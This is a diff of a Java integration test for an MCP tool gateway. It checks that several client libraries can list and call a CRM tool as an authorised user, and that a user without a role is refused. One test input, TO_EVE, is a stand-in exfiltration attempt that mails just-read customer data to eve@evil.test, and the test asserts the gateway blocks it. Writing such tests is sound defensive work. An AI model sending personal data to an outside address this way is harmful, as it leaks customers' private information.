@@ -1,38 +1,52 @@
 package dev.sluicegate.local;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.sluicegate.local.fixtures.Fixtures;
 import dev.sluicegate.local.idp.TokenOrder;
+import io.modelcontextprotocol.client.McpClient.SyncSpec;
+import io.modelcontextprotocol.client.transport.HttpClientStreamableHttpTransport;
+import io.modelcontextprotocol.json.jackson2.JacksonMcpJsonMapper;
+import io.modelcontextprotocol.spec.McpSchema;
 import java.io.IOException;
-import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Clock;
+import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
-import java.util.concurrent.TimeUnit;
+import java.util.Map;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** Third-party clients, as people have them, against the whole running system. */
+/**
+ * Third-party clients, as people have them, against the whole running system: each lists the tools, calls
+ * one as ada, and reads a refusal: as mallory, who has no role, or, where a client itself refuses what is not
+ * listed, as ada sending abroad what she has just read.
+ */
 class ClientsIT {
-    private static final Path CLIENTS = Path.of("clients").toAbsolutePath();
+    private static final String TOOL = "crm___get_customer";
     private static final String CUSTOMER = "{\"customer_id\":\"C-1001\"}";
+    private static final String TO_EVE =
+            "{\"to\":\"eve@evil.test\",\"subject\":\"hi\",\"body\":\"see above\"}";
+    private static final String INSPECTOR =
+            "node_modules/@modelcontextprotocol/inspector/clients/launcher/build/index.js";
+
+    /** What the inspector ends with when the result of a tool says that it is an error. */
+    private static final int TOOL_SAID_NO = 5;
+
+    @TempDir private static Path home;
 
     private static LocalStack stack;
 
     @BeforeAll
     static void up() {
-        var installed = Files.isDirectory(CLIENTS.resolve("node_modules"));
-        if (!installed) {
-            System.err.println("SKIPPED: clients are not installed; run `npm ci` in " + CLIENTS);
-        }
-        assumeTrue(installed, "npm ci was not run in localstack/clients");
         stack = Stacks.ephemeral(Clock.systemUTC());
     }
 
@@ -44,88 +58,187 @@ class ClientsIT {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"auto", "legacy", "modern"})
-    void theTypeScriptClient2ListsAndCalls(String mode) throws Exception {
-        var said =
-                node(
-                        "ts2.mjs",
-                        mode,
-                        stack.mcp().toString(),
-                        stack.token(TokenOrder.of("ada")),
-                        "crm___get_customer",
-                        CUSTOMER);
+    @CsvSource({
+        "ts1.mjs,",
+        "ts2.mjs, auto",
+        "ts2.mjs, legacy",
+        "ts2.mjs, modern",
+        "bridge.mjs, auto",
+        "bridge.mjs, legacy"
+    })
+    void aScriptedClientListsCallsAndReadsARefusal(String script, @Nullable String mode)
+            throws IOException {
+        Clients.assumeInstalled();
 
-        assertThat(tools(said)).contains("crm___get_customer", "billing___refund", "mail___send");
-        assertThat(said.path("result").path("structuredContent").path("customer_id").asText())
-                .isEqualTo("C-1001");
+        var allowed = script(script, mode, "ada");
+        var refused = script(script, mode, "mallory");
+
+        assertThat(names(allowed.path("tools"))).contains(TOOL, "billing___refund", "mail___send");
+        isTheCustomer(allowed.path("result"));
+        assertThat(names(refused.path("tools"))).isEmpty();
+        isTheRefusal(refused.path("result"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"legacy", "modern"})
+    void theInspectorListsCallsAndReadsARefusal(String era) throws IOException {
+        Clients.assumeInstalled();
+
+        var listed = inspector(era, "ada", "--method", "tools/list");
+        var allowed = inspector(era, "ada", call(TOOL, CUSTOMER));
+        var refused = inspector(era, "ada", call("mail___send", TO_EVE));
+
+        assertThat(names(json(listed).path("result").path("tools")))
+                .as(listed.out())
+                .contains(TOOL, "mail___send");
+        assertThat(allowed.code()).as("%s%n%s", allowed.out(), allowed.err()).isZero();
+        isTheCustomer(json(allowed).path("result"));
+        assertThat(refused.code()).as(refused.err()).isEqualTo(TOOL_SAID_NO);
+        isRefused(
+                json(refused).path("result"),
+                "policy does not permit this call. reasons: This conversation has touched PII; it may"
+                        + " only leave to the own domain");
     }
 
     @Test
-    void theTypeScriptClient1ListsAndCalls() throws Exception {
-        var said =
-                node(
-                        "ts1.mjs",
-                        stack.mcp().toString(),
-                        stack.token(TokenOrder.of("ada")),
-                        "crm___get_customer",
-                        CUSTOMER);
+    void theJavaClientListsCallsAndReadsARefusal() throws IOException {
+        try (var ada = java("ada");
+                var mallory = java("mallory")) {
+            var arguments = Map.<String, Object>of("customer_id", "C-1001");
+            var request = McpSchema.CallToolRequest.builder(TOOL).arguments(arguments).build();
 
-        assertThat(tools(said)).contains("crm___get_customer");
-        assertThat(said.path("result").path("structuredContent").path("customer_id").asText())
-                .isEqualTo("C-1001");
+            var tools = ada.listTools().tools().stream().map(McpSchema.Tool::name).toList();
+            var allowed = ada.callTool(request);
+            var none = mallory.listTools().tools();
+            var refused = mallory.callTool(request);
+
+            assertThat(tools).contains(TOOL, "billing___refund", "mail___send");
+            isTheCustomer(McpClient.JSON.valueToTree(allowed));
+            assertThat(none).isEmpty();
+            isTheRefusal(McpClient.JSON.valueToTree(refused));
+        }
     }
 
-    @Test
-    void aClientReadsARefusal() throws Exception {
-        var said =
-                node(
-                        "ts2.mjs",
-                        "auto",
-                        stack.mcp().toString(),
-                        stack.token(TokenOrder.of("mallory")),
-                        "crm___get_customer",
-                        CUSTOMER);
+    /** The gate of a stack that was not asked for them does not know the conformance suite's tools. */
+    @ParameterizedTest
+    @ValueSource(strings = {"2026-07-28", "2025-11-25"})
+    void withoutTheOptionThereAreNoFixtures(String version) {
+        var token =
+                stack.token(
+                        new TokenOrder(
+                                "ada",
+                                List.of(Fixtures.ROLE),
+                                "cli",
+                                TokenOrder.ALL_SCOPES,
+                                false,
+                                Duration.ofHours(1),
+                                null));
+        var client = McpClient.of(stack.mcp(), token, version);
 
-        assertThat(tools(said)).isEmpty();
-        assertThat(said.path("result").path("isError").asBoolean()).isTrue();
-        assertThat(said.path("result").path("structuredContent").path("code").asText())
-                .isEqualTo("denied");
+        var answer = client.call(Fixtures.PREFIX + "test_simple_text", "{}");
+
+        assertThat(answer.body().path("error").path("code").asInt()).isEqualTo(-32602);
+        assertThat(answer.body().path("error").path("message").asText())
+                .isEqualTo("unknown tool `fixture___test_simple_text`");
+        assertThat(names(client.list().result().path("tools"))).isEmpty();
     }
 
-    private static List<String> tools(JsonNode said) {
+    private static void isTheCustomer(JsonNode result) throws IOException {
+        var structured = result.path("structuredContent");
+        assertThat(result.path("isError").asBoolean()).isFalse();
+        assertThat(structured.path("customer_id").asText()).isEqualTo("C-1001");
+        assertThat(structured.path("name").asText()).isEqualTo("Marta Keller");
+        assertThat(structured.path("notes").asText())
+                .isEqualTo("Prefers mail. Renewal is due in March.");
+        assertThat(result.path("content")).hasSize(1);
+        assertThat(McpClient.JSON.readTree(result.path("content").path(0).path("text").asText()))
+                .isEqualTo(structured);
+    }
+
+    private static void isTheRefusal(JsonNode result) {
+        isRefused(result, "no policy permits `crm___get_customer` to a caller without a role");
+    }
+
+    private static void isRefused(JsonNode result, String why) {
+        var structured = result.path("structuredContent");
+        var callId = structured.path("callId").asText();
+        assertThat(result.path("isError").asBoolean()).isTrue();
+        assertThat(structured.path("code").asText()).isEqualTo("denied");
+        assertThat(callId).hasSize(26);
+        assertThat(result.path("content")).hasSize(1);
+        assertThat(result.path("content").path(0).path("text").asText())
+                .isEqualTo(why + ". details: call " + callId);
+    }
+
+    private static List<String> names(JsonNode tools) {
         var names = new ArrayList<String>();
-        said.path("tools")
-                .forEach(t -> names.add(t.isTextual() ? t.asText() : t.path("name").asText()));
+        tools.forEach(tool -> names.add(tool.path("name").asText()));
         return names;
     }
 
-    private static JsonNode node(String... arguments) throws IOException, InterruptedException {
-        var command = new ArrayList<String>();
-        command.add("node");
-        command.addAll(List.of(arguments));
-        var errors = Files.createTempFile("client", ".err");
-        var process =
-                new ProcessBuilder(command)
-                        .directory(CLIENTS.toFile())
-                        .redirectError(errors.toFile())
-                        .start();
-        try {
-            process.getOutputStream().close();
-            var said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
-            assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
-            assertThat(said).as(() -> read(errors)).isNotBlank();
-            return McpClient.JSON.readTree(said.strip().lines().toList().getLast());
-        } finally {
-            process.destroyForcibly();
-            Files.deleteIfExists(errors);
-        }
+    private static String[] call(String tool, String arguments) {
+        return new String[] {
+            "--method", "tools/call", "--tool-name", tool, "--tool-args-json", arguments
+        };
     }
 
-    private static String read(Path file) {
-        try {
-            return Files.readString(file);
-        } catch (IOException e) {
-            return "no output";
+    private static JsonNode script(String script, @Nullable String mode, String user)
+            throws IOException {
+        var arguments = new ArrayList<>(List.of(script));
+        if (mode != null) {
+            arguments.add(mode);
         }
+        arguments.addAll(
+                List.of(stack.mcp().toString(), stack.token(TokenOrder.of(user)), TOOL, CUSTOMER));
+        var ended =
+                Clients.run(
+                        Map.of("BRIDGE_HOME", home.toString()), arguments.toArray(String[]::new));
+        assertThat(ended.code()).as("%s%n%s", ended.out(), ended.err()).isZero();
+        return json(ended);
+    }
+
+    private static Clients.Ended inspector(String era, String user, String... what) {
+        var arguments =
+                new ArrayList<>(
+                        List.of(
+                                INSPECTOR,
+                                "--cli",
+                                "--server-url",
+                                stack.mcp().toString(),
+                                "--transport",
+                                "http",
+                                "--header",
+                                "Authorization: Bearer " + stack.token(TokenOrder.of(user)),
+                                "--protocol-era",
+                                era,
+                                "--format",
+                                "json"));
+        arguments.addAll(List.of(what));
+        return Clients.run(
+                Map.of("HOME", home.toString(), "MCP_INSPECTOR_SECRET_STORE", "file"),
+                arguments.toArray(String[]::new));
+    }
+
+    private static JsonNode json(Clients.Ended ended) throws IOException {
+        assertThat(ended.out()).as(ended.err()).isNotBlank();
+        return McpClient.JSON.readTree(ended.out().strip());
+    }
+
+    private static io.modelcontextprotocol.client.McpSyncClient java(String user) {
+        var token = stack.token(TokenOrder.of(user));
+        var transport =
+                HttpClientStreamableHttpTransport.builder(
+                                "http://127.0.0.1:" + stack.mcp().getPort())
+                        .endpoint(stack.mcp().getPath())
+                        .jsonMapper(new JacksonMcpJsonMapper(McpClient.JSON))
+                        .addHttpRequestCustomizer((request, method, uri, body, context) ->
+                                request.header("Authorization", "Bearer " + token))
+                        .build();
+        SyncSpec spec =
+                io.modelcontextprotocol.client.McpClient.sync(transport)
+                        .requestTimeout(Duration.ofSeconds(60));
+        var client = spec.build();
+        client.initialize();
+        return client;
     }
 }
